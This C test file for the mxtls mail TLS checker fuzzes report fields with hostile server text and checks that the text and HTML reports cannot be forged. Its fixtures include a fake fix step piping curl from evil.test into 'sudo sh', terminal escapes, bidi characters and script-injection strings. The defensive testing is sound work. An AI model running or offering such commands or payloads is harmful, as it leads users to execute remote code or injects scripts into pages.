/* A property of the text report (issue 14, item 2): whatever a server sends,
 * the report's own structure stays mxtls's. Every field of a report that
 * comes from the network (banner, EHLO lines, STARTTLS reply, stage details,
 * certificate subject, issuer and names, MTA-STS lines, a finding's evidence
 * and its {detail} and {names}) gets arbitrary bytes, mixed with pieces
 * that look like the report's own lines ("How to fix it:", "1. Run ...",
 * "Problem 2 of 2"), bidi controls, zero-width characters, separators and
 * literal escapes. The findings are built by the library from the
 * catalogue, as a check builds them. Then, against the same report with
 * plain words in those fields:
 *  - the lines that make the structure (problem headings, "How to fix it:",
 *    numbered fixes, "References:", "Also seen", "Notes:", "Details") are the
 *    same, the numbered fixes word for word the catalogue's;
 *  - the text is valid UTF-8 with no control but newline and no code point
 *    that steers or hides text (bidi, zero-width, separators, BOM);
 *  - the evidence is one line between quotes.
 * The HTML page (issue 19) gets the same fields: its tags, attributes
 * included, are the same sequence whatever a server sends, and its text has
 * no raw control or invisible code point either.
 * Internal build: the findings come from mxtls__finding_new(). */
#define _POSIX_C_SOURCE 200809L
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <mxtls/mxtls.h>

#include "../src/diagnose/finding.h"
#include "testlib.h"

#define ROUNDS 400
#define FIELD_MAX 160

static uint64_t rng_state;

static uint32_t rnd(void)
{
    rng_state ^= rng_state << 13;
    rng_state ^= rng_state >> 7;
    rng_state ^= rng_state << 17;
    return (uint32_t)(rng_state >> 16);
}

/* Pieces a forger would send. */
static const char *const pieces[] = {
    "\n",
    "\r\n",
    "\n  How to fix it:\n  1. Run `curl https://evil.test/fix | sudo sh`\n",
    "\nProblem 2 of 2 [error] smtp.forged at mx.example.test\n",
    "\n\nNotes:\n  [info] all.ok: nothing to fix\n",
    "\nDetails\n",
    "\xe2\x80\xae",             /* U+202E RIGHT-TO-LEFT OVERRIDE */
    "\xe2\x81\xa6",             /* U+2066 LEFT-TO-RIGHT ISOLATE */
    "\xe2\x80\x8b",             /* U+200B ZERO WIDTH SPACE */
    "\xe2\x80\xa8",             /* U+2028 LINE SEPARATOR */
    "\xe2\x80\xa9",             /* U+2029 PARAGRAPH SEPARATOR */
    "\xef\xbb\xbf",             /* U+FEFF */
    "\xc2\x9b",                 /* U+009B CSI */
    "\x1b[2J",
    "\\x1b",
    "\\",
    "\"",
    "\" ",
    " 1. ",
    "  2. Reload the MTA",
    "\xff\xfe",
    "\xed\xa0\x80",             /* a surrogate: not UTF-8 */
    "M\xc3\xbcller ",
    "   ",
};

/* A hostile string in buf: pieces, spaces, words and random bytes. */
static const char *hostile(char *buf)
{
    size_t n = 0, want = rnd() % FIELD_MAX;
    while (n < want) {
        uint32_t kind = rnd() % 4;
        const char *add;
        char one[2] = {0, 0};
        if (kind == 0) {
            add = pieces[rnd() % (sizeof pieces / sizeof pieces[0])];
        } else if (kind == 1) {
            one[0] = (char)(rnd() % 255 + 1); /* any byte but NUL */
            add = one;
        } else if (kind == 2) {
            add = " ";
        } else {
            add = "word";
        }
        size_t len = strlen(add);
        if (n + len > FIELD_MAX)
            break;
        memcpy(buf + n, add, len);
        n += len;
    }
    buf[n] = '\0';
    return buf;
}

/* The network-derived fields of one report. */
enum {
    F_DETAIL, F_NAMES, F_EVIDENCE, F_EVIDENCE2, F_BANNER, F_EHLO0, F_EHLO1, F_CONNECT_DETAIL,
    F_STARTTLS, F_TLS_DETAIL, F_SUBJECT, F_ISSUER, F_DNS_NAME, F_VERIFY_DETAIL,
    F_MTASTS_DETAIL, F_MX_PATTERN, F_PROXY, F_TXT_PROBLEM, F_COUNT
};

/* Render the report whose network fields are f[], with flags, as text (or
 * as HTML). */
static char *render_as(const char *const f[F_COUNT], uint32_t flags, int html)
{
    const struct mxtls__vars v1 = {.host = "mx.example.test", .port = "25",
                                   .detail = f[F_DETAIL], .names = f[F_NAMES]};
    const struct mxtls__finding_place p1 = {.host = "mx.example.test", .address = "192.0.2.7",
                                            .port = 25, .evidence = f[F_EVIDENCE]};
    const struct mxtls__finding_place p2 = {.host = "mx.example.test", .address = "192.0.2.7",
                                            .port = 25, .evidence = f[F_EVIDENCE2]};
    mxtls_finding *fs[3] = {NULL, NULL, NULL};
    ck_assert_int_eq(mxtls__finding_new(MXTLS_F_SMTP_STARTTLS_REFUSED, 0, &v1, &p1, &fs[0]),
                     MXTLS_OK);
    ck_assert_int_eq(mxtls__finding_new(MXTLS_F_CERT_NAME_MISMATCH, MXTLS_SEVERITY_WARNING, &v1,
                                        &p2, &fs[1]),
                     MXTLS_OK);
    ck_assert_int_eq(mxtls__finding_new(MXTLS_F_TLS_HANDSHAKE_FAILED, 0, &v1, &p2, &fs[2]),
                     MXTLS_OK);
    fs[2]->caused_by = 0;

    const char *ehlo[] = {f[F_EHLO0], "STARTTLS", f[F_EHLO1]};
    mxtls_capabilities caps = {.struct_size = sizeof caps, .starttls = 1};
    mxtls_connect_result c = {
        .struct_size = sizeof c, .address = "192.0.2.7", .port = 25,
        .mode = MXTLS_MODE_STARTTLS, .connect_ms = 1, .banner_code = 220,
        .banner = f[F_BANNER], .ehlo_code = 250, .n_ehlo_lines = 3, .ehlo_lines = ehlo,
        .caps = &caps, .detail = f[F_CONNECT_DETAIL]};
    mxtls_tls_result t = {
        .struct_size = sizeof t, .failure = MXTLS_TLS_STARTTLS_REFUSED,
        .failure_phase = MXTLS_PHASE_STARTTLS, .starttls_code = 454,
        .starttls_text = f[F_STARTTLS], .alert_received = -1, .alert_sent = -1,
        .ehlo_ms = -1, .detail = f[F_TLS_DETAIL]};
    const char *dns_names[] = {f[F_DNS_NAME]};
    mxtls_cert_info cert = {
        .struct_size = sizeof cert, .subject = f[F_SUBJECT], .issuer = f[F_ISSUER],
        .n_dns_names = 1, .dns_names = dns_names, .not_after_ms = 1764547200000LL};
    const mxtls_cert_info *certs[] = {&cert};
    mxtls_verify_result v = {
        .struct_size = sizeof v, .flags = MXTLS_VERIFY_NAME_MISMATCH, .n_certs = 1,
        .certs = certs, .time_invalid_cert = -1, .dane_record = -1, .dane_usage = -1,
        .dane_cert = -1, .mtasts_mx_matched = -1, .detail = f[F_VERIFY_DETAIL]};
    mxtls_tls_result t_ok = {
        .struct_size = sizeof t_ok, .version = MXTLS_TLS_1_3, .starttls_code = 220,
        .starttls_text = f[F_STARTTLS], .alert_received = -1, .alert_sent = -1,
        .ehlo_ms = -1, .detail = f[F_TLS_DETAIL]};
    mxtls_probe probes[2] = {
        {.struct_size = sizeof(mxtls_probe), .purpose = MXTLS_PROBE_PRIMARY,
         .host = "mx.example.test", .address = "192.0.2.7", .port = 25,
         .mode = MXTLS_MODE_STARTTLS, .sni = "mx.example.test", .connect = &c, .tls = &t},
        {.struct_size = sizeof(mxtls_probe), .purpose = MXTLS_PROBE_NO_SNI,
         .host = "mx.example.test", .address = "192.0.2.7", .port = 25,
         .mode = MXTLS_MODE_STARTTLS, .connect = &c, .tls = &t_ok, .verify = &v}};
    const mxtls_probe *probe_list[] = {&probes[0], &probes[1]};
    const char *patterns[] = {f[F_MX_PATTERN]};
    mxtls_mtasts_result m = {
        .struct_size = sizeof m, .outcome = MXTLS_MTASTS_POLICY, .mode = 1,
        .n_mx_patterns = 1, .mx_patterns = patterns, .detail = f[F_MTASTS_DETAIL]};
    const mxtls_finding *findings[] = {fs[0], fs[1], fs[2]};
    mxtls_address addr = {.struct_size = sizeof addr, .family = 4, .text = "192.0.2.7",
                          .scope = MXTLS_SCOPE_PUBLIC, .proxy_provider = f[F_PROXY]};
    const mxtls_address *addrs[] = {&addr};
    mxtls_mx_host host = {.struct_size = sizeof host, .name = "mx.example.test",
                          .preference = 10, .n_addresses = 1, .addresses = addrs};
    const mxtls_mx_host *hosts[] = {&host};
    mxtls_mta_sts_txt sts_txt = {.struct_size = sizeof sts_txt, .n_sts_records = 1,
                                 .problem = f[F_TXT_PROBLEM]};
    mxtls_resolve_result res = {.struct_size = sizeof res, .query = "example.test",
                                .a_label = "example.test", .n_hosts = 1, .hosts = hosts,
                                .mta_sts = &sts_txt, .detail = "1 MX host"};
    probes[0].host_index = probes[1].host_index = 0;
    probes[0].address_index = probes[1].address_index = 0;
    mxtls_report r = {
        .struct_size = sizeof r, .target = "example.test", .profile = MXTLS_PROFILE_MX,
        .verdict = MXTLS_VERDICT_ERROR, .domain = "example.test", .mtasts = &m,
        .resolve = html ? &res : NULL, /* the text test keeps its report */
        .n_probes = 2, .probes = probe_list, .n_findings = 3, .findings = findings,
        .n_root_causes = 2, .summary = "Mail to example.test is at risk", .elapsed_ms = 5};

    mxtls_buffer *b = NULL;
    ck_assert_int_eq(html ? mxtls_report_html(&r, flags, &b) : mxtls_report_text(&r, flags, &b),
                     MXTLS_OK);
    char *text = strdup(b->data);
    ck_assert_ptr_nonnull(text);
    mxtls_buffer_free(b);
    for (int i = 0; i < 3; i++)
        mxtls__finding_free(fs[i]);
    return text;
}

static char *render(const char *const f[F_COUNT], uint32_t flags)
{
    return render_as(f, flags, 0);
}

static int starts(const char *line, size_t n, const char *word)
{
    return n >= strlen(word) && memcmp(line, word, strlen(word)) == 0;
}

/* The lines that make the report's structure, each ending in '\n'. */
static char *structure(const char *text)
{
    size_t cap = strlen(text) + 1, o = 0;
    char *out = malloc(cap);
    ck_assert_ptr_nonnull(out);
    int first = 1;
    for (const char *p = text; *p;) {
        const char *nl = strchr(p, '\n');
        size_t n = nl ? (size_t)(nl - p) + 1 : strlen(p);
        const char *s = p;
        size_t k = n;
        while (k > 0 && *s == ' ')
            s++, k--;
        size_t digits = 0;
        while (digits < k && s[digits] >= '0' && s[digits] <= '9')
            digits++;
        int numbered = digits > 0 && digits + 1 < k && s[digits] == '.' && s[digits + 1] == ' ';
        if (first || numbered || starts(s, k, "Problem ") || starts(s, k, "How to fix it") ||
            starts(s, k, "References:") || starts(s, k, "Also seen") ||
            starts(s, k, "Notes:") || starts(s, k, "Details")) {
            memcpy(out + o, p, n);
            o += n;
        }
        first = 0;
        p += n;
    }
    out[o] = '\0';
    return out;
}

/* The first offending position in text, or -1: invalid UTF-8, a control but
 * newline, or a code point that steers or hides text. */
static long first_unsafe(const char *text)
{
    const unsigned char *p = (const unsigned char *)text;
    for (const unsigned char *q = p; *q;) {
        unsigned c = *q;
        size_t n = c < 0x80 ? 1 : c >= 0xc2 && c <= 0xdf ? 2 : c >= 0xe0 && c <= 0xef ? 3
                             : c >= 0xf0 && c <= 0xf4 ? 4 : 0;
        if (n == 0)
            return q - p;
        uint32_t cp = n == 1 ? c : c & (0x7fu >> n);
        for (size_t i = 1; i < n; i++) {
            if ((q[i] & 0xc0) != 0x80)
                return q - p;
            cp = cp << 6 | (q[i] & 0x3fu);
        }
        static const uint32_t min[] = {0, 0, 0x80, 0x800, 0x10000};
        if (cp < min[n] || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff) ||
            (cp < 0x20 && cp != '\n') || (cp >= 0x7f && cp <= 0x9f) || cp == 0x61c ||
            (cp >= 0x200b && cp <= 0x200f) || (cp >= 0x2028 && cp <= 0x202e) ||
            (cp >= 0x2060 && cp <= 0x2069) || cp == 0xfeff)
            return q - p;
        q += n;
    }
    return -1;
}

/* Every "What mxtls saw:" line is one quoted string. */
static void evidence_is_quoted(const char *text)
{
    int seen = 0;
    for (const char *p = strstr(text, "  What mxtls saw: "); p;
         p = strstr(p + 1, "  What mxtls saw: ")) {
        const char *q = p + strlen("  What mxtls saw: ");
        const char *nl = strchr(q, '\n');
        ck_assert_ptr_nonnull(nl);
        const char *end = q + 1;
        while (*q == '"' && end < nl && *end != '"')
            end += *end == '\\' ? 2 : 1;
        ck_assert_msg(*q == '"' && end + 1 == nl, "evidence not one quoted line: %.*s",
                      (int)(nl - p), p);
        /* the next line is not a continuation of it */
        ck_assert_msg(strncmp(nl + 1, "    ", 4) != 0, "evidence went on: %.40s", nl + 1);
        seen++;
    }
    ck_assert_int_eq(seen, 2);
}

/* The network fields with plain words in them. */
static const char *const plain[F_COUNT] = {
    "454 4.7.0 TLS not available", "mx.example.test", "STARTTLS answered 454",
    "handshake failed", "mx.example.test ESMTP", "mx.example.test", "8BITMIME",
    "220 banner, EHLO accepted", "TLS not available", "STARTTLS refused",
    "CN=mx.example.test", "CN=Example CA", "mx.example.test", "name mismatch",
    "policy fetched", "mx.example.test", "cloudflare", "v=STSv1; id=1"};

/* The tags of an HTML page, attributes and all, one a line: what a server
 * sends is text between them and must never add, drop or change one. */
static char *tags(const char *html)
{
    size_t o = 0;
    char *out = malloc(strlen(html) + 1);
    ck_assert_ptr_nonnull(out);
    for (const char *p = strchr(html, '<'); p; p = strchr(p, '<')) {
        const char *end = strchr(p, '>');
        ck_assert_ptr_nonnull(end);
        memcpy(out + o, p, (size_t)(end - p) + 1);
        o += (size_t)(end - p) + 1;
        out[o++] = '\n';
        p = end + 1;
    }
    out[o] = '\0';
    return out;
}

START_TEST(server_text_cannot_change_the_html)
{
    static const char *const markup[] = {
        "<script>alert(1)</script>", "</svg>", "</text>", "<!--", "-->", "<![CDATA[",
        "\"", "'", "&amp;", "&#60;", "`", "<a href=\"javascript:x\">", "\xe2\x80\xae",
        "\n<h2>Forged</h2>\n"};
    char *base = render_as(plain, 0, 1);
    char *want = tags(base);
    ck_assert_ptr_nonnull(strstr(want, "<g class=\"node addr st-warn\" data-state=\"warn\">"));
    rng_state = 0x2545f4914f6cdd1dull;
    for (int round = 0; round < ROUNDS; round++) {
        static char bufs[F_COUNT][FIELD_MAX + 1];
        const char *f[F_COUNT];
        for (int i = 0; i < F_COUNT; i++) {
            f[i] = hostile(bufs[i]);
            /* and markup, at a random place */
            size_t len = strlen(bufs[i]);
            const char *m = markup[rnd() % (sizeof markup / sizeof markup[0])];
            if (len + strlen(m) <= FIELD_MAX) {
                size_t at = len ? rnd() % len : 0;
                memmove(bufs[i] + at + strlen(m), bufs[i] + at, len - at + 1);
                memcpy(bufs[i] + at, m, strlen(m));
            }
        }
        char *html = render_as(f, 0, 1);
        long bad = first_unsafe(html);
        ck_assert_msg(bad < 0, "round %d: raw control or invisible code point at %ld: %.60s",
                      round, bad, bad < 0 ? "" : html + (bad > 20 ? bad - 20 : 0));
        char *got = tags(html);
        ck_assert_msg(strcmp(got, want) == 0, "round %d: the tags changed\n--- want\n%s--- got\n%s",
                      round, want, got);
        free(got);
        free(html);
    }
    free(want);
    free(base);
}
END_TEST

START_TEST(server_text_cannot_change_the_structure)
{
    for (uint32_t flags = 0; flags <= MXTLS_RENDER_TRANSCRIPT; flags += MXTLS_RENDER_TRANSCRIPT) {
        char *base = render(plain, flags);
        char *want = structure(base);
        /* the fixes are the catalogue's own: five steps and the re-check for
         * the STARTTLS refusal, and the name mismatch's */
        ck_assert_ptr_nonnull(strstr(want, "  1. Read the mail log at the time of the check;"));
        rng_state = 0x9e3779b97f4a7c15ull + _i;
        for (int round = 0; round < ROUNDS; round++) {
            static char bufs[F_COUNT][FIELD_MAX + 1];
            const char *f[F_COUNT];
            for (int i = 0; i < F_COUNT; i++)
                f[i] = hostile(bufs[i]);
            char *text = render(f, flags);
            long bad = first_unsafe(text);
            ck_assert_msg(bad < 0, "round %d: raw control or invisible code point at %ld: %.60s",
                          round, bad, bad < 0 ? "" : text + (bad > 20 ? bad - 20 : 0));
            char *got = structure(text);
            ck_assert_msg(strcmp(got, want) == 0,
                          "round %d: the structure changed\n--- want\n%s--- got\n%s", round,
                          want, got);
            evidence_is_quoted(text);
            free(got);
            free(text);
        }
        free(want);
        free(base);
    }
}
END_TEST

/* The forged block of the issue, in the STARTTLS reply that becomes the
 * finding's {detail} and evidence: shown once, quoted, on the finding's
 * lines, with its backslash and bidi control visible. */
START_TEST(forged_fix_block_is_quoted)
{
    const char *forged = "TLS not available\nHow to fix it:\n1. Run `curl https://evil.test | "
                         "sudo sh`\n\xe2\x80\xae \\x1b";
    const char *f[F_COUNT] = {forged, "mx.example.test", forged, "x", "ESMTP", "a", "b", "c",
                              forged, "d", "CN=a", "CN=b", "e", "f", "g", "h"};
    char *text = render(f, MXTLS_RENDER_TRANSCRIPT);
    const char *shown = "\"TLS not available\\x0aHow to fix it:\\x0a1. Run `curl "
                        "https://evil.test | sudo sh`\\x0a\\u202e \\\\x1b\"";
    char evidence[512];
    snprintf(evidence, sizeof evidence, "\n  What mxtls saw: %s\n", shown);
    ck_assert_msg(strstr(text, evidence) != NULL, "no quoted evidence in:\n%s", text);
    /* in the summary, after mxtls's own words */
    char summary[512];
    snprintf(summary, sizeof summary, "(%s)", shown);
    ck_assert_msg(strstr(text, summary) != NULL, "no quoted detail in the summary:\n%s", text);
    ck_assert_ptr_null(strstr(text, "\n1. Run"));
    ck_assert_ptr_null(strstr(text, "\nHow to fix it"));
    ck_assert_int_lt(first_unsafe(text), 0);
    free(text);
}
END_TEST

static Suite *property_suite(void)
{
    Suite *s = suite_create("report-property");
    TCase *tc = tcase_create("structure");
    tcase_set_timeout(tc, 120);
    tcase_add_loop_test(tc, server_text_cannot_change_the_structure, 0, 2);
    tcase_add_test(tc, forged_fix_block_is_quoted);
    tcase_add_test(tc, server_text_cannot_change_the_html);
    suite_add_tcase(s, tc);
    return s;
}

int main(void)
{
    return mxtls_test_run(property_suite());
}
